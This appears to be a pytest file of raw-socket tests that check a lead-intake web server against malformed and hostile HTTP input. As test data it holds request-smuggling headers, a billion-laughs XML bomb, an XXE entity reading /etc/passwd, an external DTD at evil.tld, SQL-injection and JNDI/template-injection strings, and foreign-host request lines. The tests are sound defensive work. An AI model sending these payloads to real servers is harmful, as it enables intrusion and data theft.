"""Beyond the catalog: other spellings of the same abuse, and of what is perfectly fine.

All of it goes over a bare socket to a web process of its own.
"""

import json
from uuid import uuid4

import pytest

from tests.web.conftest import JANE, JOHN, JSON, MARK, refused
from tests.web.raw import chunked, connect, receive, request

FORM = "Content-Type: application/x-www-form-urlencoded"
LENGTH = f"Content-Length: {len(JANE)}"


def raw(method, path, *lines, body=b""):
    """Write a request whose address is bytes that no client would send."""
    head = [method + b" " + path + b" HTTP/1.1", b"Host: localhost", *lines]
    if body:
        head.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join([*head, b"", b""]) + body


@pytest.mark.parametrize("query", [b"utm=caf\xc3\xa9", b"a=\xe2\x82\xac", b"\xf0\x9f\x98\x80"])
def test_address_with_letters_that_nobody_escaped_takes_a_lead(wire, query):
    path = wire.path.encode() + b"?" + query

    reply = wire.send(raw(b"POST", path, JSON.encode(), body=JANE))

    assert (reply.status, wire.leads()) == (202, 1)


@pytest.mark.parametrize("query", [b"q=caf\xc3\xa9", b"q=\xe2\x82\xac", b"\xe2\x82\xac"])
@pytest.mark.parametrize("path", [b"/api/v1/leads", b"/api/v1/contacts"])
def test_search_for_letters_that_nobody_escaped_is_answered(wire, api, path, query):
    key = b"Authorization: Bearer " + api.key.encode()

    reply = wire.send(raw(b"GET", path + b"?" + query, key))

    assert (reply.status, reply.json["items"]) == (200, [])


@pytest.mark.parametrize("path", [b"/sign-in", b"/contacts", b"/livez", b"/docs", b"/nothing"])
def test_no_address_fails_over_letters_that_nobody_escaped(wire, path):
    reply = wire.send(raw(b"GET", path + b"?next=\xe2\x82\xac&\xc3\xa9"))

    assert reply.status in {200, 303, 404}


@pytest.mark.parametrize(
    "path", [b"/hooks/\xff", b"/hooks/x?\xff\xfe", b"/\x7f", b"/a\x01b", b"hooks", b"\\hooks"]
)
def test_address_that_is_no_text_is_400(wire, path):
    assert refused(wire.send(raw(b"POST", path, body=JANE)), 400)


@pytest.mark.parametrize(
    "path", ["*", "/..;/livez", "/%00", "/%ff", "/%", "/%zz", "//evil.tld"]
)
def test_odd_path_is_404(wire, path):
    assert refused(wire.send(request("OPTIONS" if path == "*" else "GET", path)), 404)


ABSOLUTE = ["http://localhost{}", "HTTP://LOCALHOST{}", "http://127.0.0.1:8000{}"]


@pytest.mark.parametrize("form", ABSOLUTE)
def test_absolute_request_line_of_our_host_is_taken(wire, form):
    assert wire.post(JSON, path=form.format(wire.path)).status == 202


@pytest.mark.parametrize(
    ("form", "host"),
    [
        ("http://evil.example{}", "localhost"),
        ("http://localhost{}", "evil.example"),
        ("http://localhost@evil.example{}", "localhost"),
        ("http://evil@localhost{}", "localhost"),
    ],
)
def test_absolute_request_line_of_another_host_is_400(wire, form, host):
    assert refused(wire.post(JSON, path=form.format(wire.path), host=host), 400, "bad-host")
    assert wire.leads() == 0


@pytest.mark.parametrize("version", [b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/11", b""])
def test_other_version_of_http_is_400(wire, version):
    data = request("POST", wire.path, JSON, body=JANE).replace(b"HTTP/1.1", version, 1)

    assert refused(wire.send(data), 400)
    assert wire.leads() == 0


@pytest.mark.parametrize(
    "change",
    [lambda data: data.replace(b"HTTP/1.1", b"HTTP/1.0", 1), lambda data: b"\r\n" + data],
)
def test_old_http_and_a_line_too_many_in_front_are_taken(wire, change):
    assert wire.send(change(request("POST", wire.path, JSON, body=JANE))).status == 202


LENGTHS = ["abc", "-5", "+75", "0x4b", "7 5", "1e1", "", "9" * 23, "75, 75", "75;q=1", "75.0"]


@pytest.mark.parametrize("length", LENGTHS)
def test_length_that_is_no_number_is_400(wire, length):
    assert refused(wire.post(JSON, f"Content-Length: {length}"), 400)
    assert wire.leads() == 0


@pytest.mark.parametrize("second", [len(JANE) - 1, len(JANE) + 1, 0])
def test_two_different_lengths_are_400(wire, second):
    assert refused(wire.post(JSON, LENGTH, f"Content-Length: {second}"), 400)
    assert wire.leads() == 0


def test_same_length_said_twice_is_one(wire):
    assert wire.post(JSON, LENGTH, LENGTH).status == 202


@pytest.mark.parametrize("length", [4, 0, 10_000])
def test_length_beside_chunks_smuggles_nothing(wire, length):
    inner = request("POST", wire.path, JSON, body=JOHN)
    head = request(
        "POST", wire.path, f"Content-Length: {length}", "Transfer-Encoding: chunked", JSON
    )

    with connect(wire.port) as sock:
        sock.sendall(head + b"%x\r\n%b\r\n0\r\n\r\n" % (len(JANE), JANE) + inner)
        first = receive(sock)

    assert first.status in {202, 400}
    assert first.closed
    assert wire.story.value("SELECT count(*) FROM leads WHERE first_name = 'John'") == 0


@pytest.mark.parametrize(
    "line",
    [b"X-A: \x00", b"X-A: a\x01b", b"X-A\x00: a", b": a", b"X A: a", b"X-A", b"X-A : a"],
)
def test_broken_header_is_400(wire, line):
    data = request("POST", wire.path, JSON, body=JANE).replace(
        b"\r\n\r\n", b"\r\n%b\r\n\r\n" % line, 1
    )

    assert refused(wire.send(data), 400)
    assert wire.leads() == 0


HARMLESS = [
    b"Cookie: \xff=\xff; ;;=;a",
    b"Content-Type: \xff\xfe",
    b"Content-Type: text/plain",
    b"content-type: application/json, text/html",
    b"Content-Type: " + b"a" * 8_000,
    b"Authorization: \xe2\x82\xac",
    b"webhook-signature: v1,\xff",
    b"X-Request-ID: \xff<script>",
    b"Range: bytes=9-1",
    b"If-Match: *",
    b"Upgrade: h2c\r\nConnection: Upgrade",
    b"Content-Language: \xe2\x82\xac",
    b"Trailer: Content-Length",
    b"TE: trailers",
]


@pytest.mark.parametrize("line", HARMLESS, ids=lambda line: line[:24].decode("latin-1"))
def test_header_that_is_not_asked_for_does_no_harm(wire, line):
    data = request("POST", wire.path, JSON, body=JANE).replace(
        b"\r\n\r\n", b"\r\n%b\r\n\r\n" % line, 1
    )

    reply = wire.send(data)

    assert reply.status == 202
    assert reply.headers["x-request-id"].isalnum()


@pytest.mark.parametrize(
    "key", [b"k" * 8_000, b"'; DROP TABLE leads;--", b"{{7*7}} %s ${jndi:ldap://x}"]
)
def test_key_in_a_header_may_be_anything_and_names_the_lead(wire, key):
    lines = JSON.encode(), b"Idempotency-Key: " + key
    path = wire.path.encode()

    first = wire.send(raw(b"POST", path, *lines, body=JANE))
    second = wire.send(raw(b"POST", path, *lines, body=JOHN))

    assert (first.status, second.status) == (202, 200)
    assert first.json["lead_id"] == second.json["lead_id"]


def part(head, value):
    return b"--b\r\nContent-Disposition: form-data; %b\r\n\r\n%b\r\n" % (head, value)


NAME, PHONE = part(b'name="name"', b"Jane Doe"), part(b'name="phone"', b"2025550142")
MULTIPART = "multipart/form-data; boundary=b"
NESTED = part(b"name=x\r\nContent-Type: multipart/mixed; boundary=c", b"--c\r\n\r\n1\r\n--c--")
BAD_PARTS = {
    "no-final-boundary": (NAME + PHONE, MULTIPART, 400),
    "other-boundary": (NAME + PHONE + b"--b--\r\n", "multipart/form-data; boundary=c", 400),
    "no-boundary-named": (b"name=Jane", "multipart/form-data", 400),
    "empty-boundary": (b"name=Jane", 'multipart/form-data; boundary=""', 400),
    "boundary-of-5000": (NAME, f"multipart/form-data; boundary={'b' * 5_000}", 400),
    "nothing-between": (b"--b--\r\n", MULTIPART, 422),
    "10000-parts": (b"--b\r\n\r\n\r\n" * 5_900 + b"--b--\r\n", MULTIPART, None),
    "1000-fields": (part(b'name="a"', b"1") * 1_000 + b"--b--\r\n", MULTIPART, 413),
    "huge-part-name": (
        part(b'name="' + b"n" * 60_000 + b'"', b"1") + b"--b--\r\n",
        MULTIPART,
        None,
    ),
    "head-without-end": (
        b"--b\r\nContent-Disposition: form-data; name=" + b"n" * 60_000,
        MULTIPART,
        None,
    ),
    "nested": (NESTED + b"--b--\r\n", MULTIPART, 422),
    "nul-in-a-name": (
        part(b'name="a\x00"', b"1") + NAME + PHONE + b"--b--\r\n",
        MULTIPART,
        None,
    ),
    "no-utf-8": (part(b'name="name"', b"\xff\xfe") + PHONE + b"--b--\r\n", MULTIPART, 400),
    "phone-twice": (
        NAME + PHONE + part(b'name="phone"', b"2025550143") + b"--b--\r\n",
        *(MULTIPART, 422),
    ),
}


@pytest.mark.parametrize(("body", "kind", "status"), BAD_PARTS.values(), ids=BAD_PARTS)
def test_broken_multipart_is_refused_by_name(wire, body, kind, status):
    reply = wire.lead(body, kind)

    assert refused(reply, status or reply.status)
    assert reply.status in {400, 413, 422}
    assert wire.leads() == 0


XML_BOMB = b"".join(
    [
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "evil-mark">',
        *(b'<!ENTITY a%d "%b">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)),
        b"]><lead><name>&a9;</name><phone>2025550142</phone></lead>",
    ]
)
BAD_TEXT = {
    "billion-laughs": (XML_BOMB, "text/xml", 400),
    "external-entity": (
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><lead><name>&b;</name></lead>',
        *("application/xml", 400),
    ),
    "external-dtd": (b'<!DOCTYPE a SYSTEM "http://evil.tld/a.dtd"><a/>', "text/xml", 400),
    "unknown-entity": (b"<lead><name>&evil;</name></lead>", "text/xml", 400),
    "xml-10000-deep": (b"<a>" * 9_000, "text/xml", 400),
    "xml-in-utf-16-by-itself": (
        b'<?xml version="1.0" encoding="UTF-16"?><a/>',
        "text/xml",
        415,
    ),
    "5000-digits": (b'{"phone": ' + b"1" * 5_000 + b"}", "application/json", 400),
    "60000-digits": (b'{"phone": ' + b"1" * 60_000 + b"}", "application/json", 400),
    "1e400": (b'{"phone": 1e400}', "application/json", 400),
    "key-of-64-KiB": (b'{"' + b"k" * 65_000 + b'": 1}', "application/json", 422),
    "deep-objects": (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "application/json", 400),
    "nul-in-a-key": (b'{"a\\u0000b": 1,' + JANE[1:], "application/json", 422),
    "raw-nul": (b'{"a": "\x00"}', "application/json", 400),
    "mark-in-the-middle": (b'{"a": 1}\xef\xbb\xbf', "application/json", 400),
    "form-nul": (b"first_name=Jane&last_name=Doe&phone=2025550142%00", FORM[14:], 422),
    "form-no-utf-8": (b"first_name=%ff%fe&last_name=Doe&phone=2025550142", FORM[14:], 400),
    "form-half-an-escape": (b"phone=%&first_name=%zz%", FORM[14:], 422),
    "form-semicolons": (b"first_name=Jane;last_name=Doe;phone=2025550142", FORM[14:], 422),
    "form-without-values": (b"&&&==&=&", FORM[14:], 422),
}


@pytest.mark.parametrize(("body", "kind", "status"), BAD_TEXT.values(), ids=BAD_TEXT)
def test_body_that_means_harm_is_refused_by_name(wire, body, kind, status):
    assert refused(wire.lead(body, kind), status)
    assert wire.leads() == 0


GOOD_TEXT = {
    "byte-order-mark": (b"\xef\xbb\xbf" + JANE, "application/json"),
    "charset-that-is-a-lie": (JANE, "application/json; charset=iso-8859-1"),
    "type-in-capitals": (JANE, "APPLICATION/JSON;CHARSET=UTF-8"),
    "json-by-another-name": (JANE, "application/vnd.lead+json"),
    "key-by-escapes": (JANE.replace(b'"phone"', rb'"ph\u006fne"'), "application/json"),
    "plus-as-a-space": (b"first_name=Jane&last_name=Doe&phone=+12025550142", FORM[14:]),
    "space-in-front": (b" \r\n\t" + JANE, "application/json"),
    "quoted-boundary": (NAME + PHONE + b"--b--\r\n", 'multipart/form-data; boundary="b"'),
    "words-before-the-boundary": (b"hello\r\n" + NAME + PHONE + b"--b--\r\n", MULTIPART),
    "words-after-it": (NAME + PHONE + b"--b--\r\ngoodbye", MULTIPART),
}


@pytest.mark.parametrize(("body", "kind"), GOOD_TEXT.values(), ids=GOOD_TEXT)
def test_body_in_an_odd_dress_is_a_lead(wire, body, kind):
    reply = wire.lead(body, kind)

    assert (reply.status, wire.leads()) == (202, 1), reply.body


def test_data_in_the_address_is_no_lead(wire):
    address = f"{wire.path}?first_name=Jane&last_name=Doe&phone=2025550142&x={MARK}"

    assert refused(wire.post(JSON, path=address, body=b""), 400, "empty-body")
    assert refused(wire.post(JSON, path=address, body=b"{}"), 422, "missing")
    assert wire.leads() == 0


def test_many_odd_requests_on_one_connection_do_not_mix(wire):
    bodies = [JANE, b"{", b'{"phone": "no"}', JANE, b"[]", JOHN]

    with connect(wire.port) as sock:
        sock.sendall(b"".join(request("POST", wire.path, JSON, body=body) for body in bodies))
        replies = [receive(sock) for _ in bodies]

    assert [reply.status for reply in replies] == [202, 400, 422, 200, 422, 202]


@pytest.mark.parametrize("size", [1, 7])
def test_trickled_request_is_one_lead(wire, size):
    data = request("POST", wire.path, JSON, body=JANE)

    with connect(wire.port) as sock:
        for at in range(0, len(data), size):
            sock.sendall(data[at : at + size])
        reply = receive(sock)

    assert (reply.status, wire.leads()) == (202, 1)


def test_chunks_under_another_label_are_read_as_what_they_are(wire):
    body = json.dumps(json.loads(JANE)).encode()

    assert (
        wire.send(chunked("POST", wire.path, "Content-Type: text/plain", body=body)).status
        == 202
    )


def test_action_on_ten_thousand_ids_is_taken_whole_and_one_more_is_refused(wire, api):
    def ask(many):
        ids = [str(uuid4()) for _ in range(many)]
        asked = {"kind": "favorite", "contacts": {"ids": ids}}
        key = f"Authorization: Bearer {api.key}"
        return wire.post(JSON, key, body=json.dumps(asked).encode(), path="/api/v1/actions")

    taken, refused_one = ask(10_000), ask(10_001)

    assert taken.status == 202
    assert taken.json["job"]["total"] == 10_000
    assert refused(refused_one, 422)


def test_body_that_no_list_of_ids_needs_is_refused(wire, api):
    body = b'{"kind":"favorite","label":"' + b"a" * 600_000 + b'"}'

    reply = wire.post(
        JSON, f"Authorization: Bearer {api.key}", body=body, path="/api/v1/actions"
    )

    assert refused(reply, 413, "too-large")
